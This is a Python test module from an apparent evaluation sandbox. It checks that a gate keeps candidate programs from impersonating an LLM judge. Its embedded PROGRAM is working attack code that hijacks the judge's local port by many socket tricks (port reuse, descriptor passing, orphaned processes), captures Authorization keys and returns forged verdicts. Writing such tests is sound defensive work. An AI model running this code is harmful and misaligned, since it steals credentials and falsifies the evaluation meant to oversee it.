"""A candidate that hides that it listens where the gate expects a judge: it is told nothing.

The judge is down, and the policy lists its port, so that who is at the other end is all that
stands against each of these. Beside each stands its control: the same program, which is no
candidate's, is the judge.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.test_upstream_attacks import USERS, forged, ground, root, run, said, squatting
from tests.helpers.isolation import open_python
from tests.helpers.outside import kept_port, provider_outside, running
from tests.helpers.tiers import some_always
from tests.hostile.ground import as_user

__all__ = ["ground"]

PROGRAM = """\
import ctypes, json, os, select, socket, sys, threading, time
from http.server import BaseHTTPRequestHandler, HTTPServer
PORT, FORGED = {port}, {forged}
keys, places = [], set()
def listener(at="127.0.0.1", family=socket.AF_INET, protocol=0, prepare=None):
    one = socket.socket(family, socket.SOCK_STREAM, protocol)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if family == socket.AF_INET6:
        one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    if prepare:
        prepare(one)
    one.bind((at, PORT))
    one.listen(64)
    places.add(at)
    return one
def option(level, name, value=1):
    return lambda one: one.setsockopt(level, name, value)
def accepted(one):  # and it listens no more
    peer, _ = one.accept()
    one.close()
    return peer
def on_device():
    return accepted(listener(prepare=option(socket.SOL_SOCKET, 25, b"lo")))
def at_once():
    return accepted(listener())
def mapped():
    return accepted(listener("::ffff:127.0.0.1", socket.AF_INET6))
def multipath():  # refused by the second wall where the kernel has it
    try:
        return accepted(listener(protocol=262))
    except OSError:
        return at_once()
def deferred():
    return accepted(listener(prepare=option(socket.IPPROTO_TCP, socket.TCP_DEFER_ACCEPT, 9)))
def group():
    first, second = (listener(prepare=option(socket.SOL_SOCKET, socket.SO_REUSEPORT)) for _ in "12")
    time.sleep(1)
    first.close()
    return accepted(second)
def joined():
    return accepted(listener(prepare=option(socket.SOL_SOCKET, socket.SO_REUSEPORT)))
def send(one):
    ours, theirs = socket.socketpair()
    socket.send_fds(ours, [b"x"], [one.fileno()])
    one.close()
    return ours, theirs
def received(pair):
    (number,) = socket.recv_fds(pair[1], 1, 1)[1]
    return socket.socket(fileno=number)
def unbound():  # the kernel chooses a port, until it is this one
    others = []
    while True:
        one = socket.socket()
        one.listen(64)
        if one.getsockname()[1] == PORT:
            places.add("unbound")
            for other in others:
                other.close()
            return accepted(one)
        others.append(one)
def under_way():  # nobody holds it while the gate looks
    pair = send(listener())
    time.sleep(2.5)
    return accepted(received(pair))
def accepted_under_way():
    pair = send(accepted(listener()))
    time.sleep(1.5)
    return received(pair)
def own_table():  # this thread's descriptors are its own
    ctypes.CDLL(None).unshare(0x400)
    return at_once()
def elsewhere(begin):  # in a process whose parents are gone
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            begin()
            while True:
                try:
                    serve(at_once(), lambda key: ours.send(key.encode()))
                except OSError:  # never back into the attack: each would begin others
                    os._exit(1)
        os._exit(0)
    places.add("elsewhere")
    keys.append(theirs.recv(100).decode())
def undumpable():
    elsewhere(lambda: ctypes.CDLL(None).prctl(4, 0))
def orphan():
    elsewhere(lambda: None)
def shut_down():  # it listens no more while it takes one from the queue
    one = listener()
    select.select([one], [], [])
    threading.Thread(target=one.shutdown, args=(2,)).start()
    return accepted(one)
def never_accepted():
    one = listener()
    time.sleep(3)
    return accepted(one)
def before(peer):
    data = b""
    while b"\\r\\n\\r\\n" not in data:
        piece = peer.recv(65536)
        if not piece:
            return ""
        data += piece
    return data.decode(errors="replace")
def serve(peer, tell):
    try:
        said = before(peer)
        if "uthorization" in said:
            tell("a key")
            body = json.dumps(FORGED).encode()
            head = f"HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: {{len(body)}}"
            peer.sendall(head.encode() + b"\\r\\nConnection: close\\r\\n\\r\\n" + body)
            time.sleep(0.1)
    except OSError:
        pass
    peer.close()
def attack():
    while True:
        try:
            peer = {way}()
            if peer is not None:
                serve(peer, keys.append)
        except OSError as error:
            print(error, file=sys.stderr, flush=True)
            time.sleep(0.05)
class Agent(BaseHTTPRequestHandler):
    def log_message(self, *args): pass
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        time.sleep(1)
        data = json.dumps({{"reply": f"I took {{len(keys)}} keys at {{len(places)}} places."}}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(data)
for _ in range({threads}):
    threading.Thread(target=attack, daemon=True).start()
HTTPServer(("127.0.0.1", int(sys.argv[1])), Agent).serve_forever()
"""

WAYS = (
    "on_device", "under_way", "own_table", "accepted_under_way", "orphan", "undumpable",
    "multipath", "mapped", "at_once", "deferred", "group", "never_accepted",
    "shut_down",
)  # fmt: skip


@pytest.fixture
def port() -> Iterator[int]:
    """The port of a judge that is down."""
    with kept_port() as port:
        yield port


@root
@USERS
@pytest.mark.parametrize("way", some_always(WAYS, 6))
def test_nobody_hides_that_he_answers_for_a_judge(
    ground: Path, user: int | None, way: str, port: int
) -> None:
    repo = squatting(ground, port, program=PROGRAM, way=way, threads=1)
    done, trials = run(repo, f"http://127.0.0.1:{port}/v1", user=user)

    assert "keys at 1 places" in trials, trials + done.stdout + done.stderr
    assert "I took 0" in trials
    assert "I took 1" not in trials
    assert done.returncode == 3, done.stdout + done.stderr


SEEN = ("group", "on_device", "multipath", "mapped", "at_once", "deferred")
"""What shows who answers, also where that is told by descent alone."""

OUTSIDER = 4343
"""A user of this machine who is neither the gate's nor a candidate's."""


def outside(ground: Path, port: int, way: str) -> list[str]:
    """The words that start the attack's program as nobody's candidate."""
    program = ground / "outside.py"
    program.write_text(PROGRAM.format(port=port, forged=forged(), way=way, threads=1))
    few = ["prlimit", "--nproc=64:64"]  # no gate counts what it starts
    return [*few, *as_user(OUTSIDER), open_python(), "-I", "-S", str(program), "0"]


@root
@USERS
@pytest.mark.parametrize("way", some_always(SEEN, 6))
def test_the_same_program_is_the_judge_where_it_is_no_candidates(
    ground: Path, user: int | None, way: str, port: int
) -> None:
    repo = squatting(ground, port, program=PROGRAM, way=way, threads=0)
    with running(outside(ground, port, way), port):
        done, trials = run(repo, f"http://127.0.0.1:{port}/v1", user=user)

    assert "I took 0 keys at 0 places" in trials, trials + done.stdout + done.stderr
    assert done.returncode == 0, done.stdout + done.stderr


_BEGINS = """\
ip link set lo up
echo 50000 50999 > /proc/sys/net/ipv4/ip_local_port_range
[ "$0" = sh ] && exec "$@"
$0 > /dev/null 2>&1 &
sleep 1
"$@"
ended=$?
kill $!
exit $ended
"""
FEW_PORTS = ("unshare", "--net", "sh", "-c", _BEGINS)
"""Begins a network of its own whose kernel has few ports to choose from, with a program beside it."""


@root
@USERS
@pytest.mark.skipif(not shutil.which("ip"), reason="takes ip(8)")
@pytest.mark.parametrize("listed", [True, False], ids=["port listed", "port not listed"])
def test_whoever_is_given_the_judges_port_without_asking_for_it_is_told_nothing(
    ground: Path, user: int | None, *, listed: bool
) -> None:
    """A socket that listens unbound gets a port from the kernel, which no rule for ports sees."""
    port = 50_021
    repo = squatting(ground, port, program=PROGRAM, way="unbound", threads=1, listed=listed)
    within = (*FEW_PORTS, "sh")
    done, trials = run(repo, f"http://127.0.0.1:{port}/v1", user=user, within=within)
    assert "I took 1" not in trials
    assert done.returncode in {1, 3}, "its fixtures run into each other for want of ports"
    assert f"openai is not who listens on port {port} of this machine" in said(done), (
        trials + done.stderr
    )


@root
@USERS
@pytest.mark.skipif(not shutil.which("ip"), reason="takes ip(8)")
def test_a_judge_who_listens_unbound_is_one(ground: Path, user: int | None) -> None:
    """The control of it."""
    port = 50_021
    beside = " ".join(outside(ground, port, "unbound"))
    repo = squatting(ground, port, program=PROGRAM, way="unbound", threads=0)
    within = (*FEW_PORTS, beside)
    done, trials = run(repo, f"http://127.0.0.1:{port}/v1", user=user, within=within)
    assert done.returncode == 0, trials + done.stdout + done.stderr


@root
@USERS
@pytest.mark.parametrize("shares", [True, False], ids=["shares its port", "does not"])
@pytest.mark.parametrize("threads", [1, 0], ids=["squatted", "control"])
def test_nobody_joins_a_judge_who_shares_its_port(
    ground: Path, user: int | None, threads: int, *, shares: bool
) -> None:
    """SO_REUSEPORT lets another socket of the same user have every second connection."""
    with provider_outside(ground, user, forged(), shares=shares) as port:
        repo = squatting(ground, port, program=PROGRAM, way="joined", threads=threads)
        done, trials = run(repo, f"http://127.0.0.1:{port}/v1", user=user)

    joins = bool(user and shares and threads)
    assert f"I took 0 keys at {int(joins)} places" in trials, trials + done.stdout + done.stderr
    assert "I took 1" not in trials
    assert done.returncode == (3 if joins else 0), done.stdout + done.stderr
